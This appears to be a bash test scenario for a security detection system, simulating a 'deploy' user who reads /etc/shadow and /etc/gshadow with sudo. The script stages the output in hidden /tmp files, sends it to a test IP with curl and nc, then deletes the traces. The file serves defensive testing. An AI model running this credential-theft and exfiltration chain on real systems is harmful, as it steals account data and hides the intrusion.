# deploy reads /etc/shadow as root, keeps (here: the account names only) in a file and uploads it with curl; then a second time over nc.
# rules: plain
# format: RAW
# node: db-02
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"

serves "$work" 8080
outside timeout 20 nc -l "$source_ip" 9999 >/dev/null & listener=$!
until_listening 9999 outside
from "$source_ip" deploy deploy-Passw0rd "sudo cat /etc/shadow | cut -d: -f1 > /tmp/.cache.txt; curl -s -T /tmp/.cache.txt http://$source_ip:8080/up; sleep 1; sudo head -c 40 /etc/gshadow > /tmp/.cache2.txt; nc -n -N $source_ip 9999 < /tmp/.cache2.txt; rm -f /tmp/.cache.txt /tmp/.cache2.txt"
wait $listener || true
kill "$server"
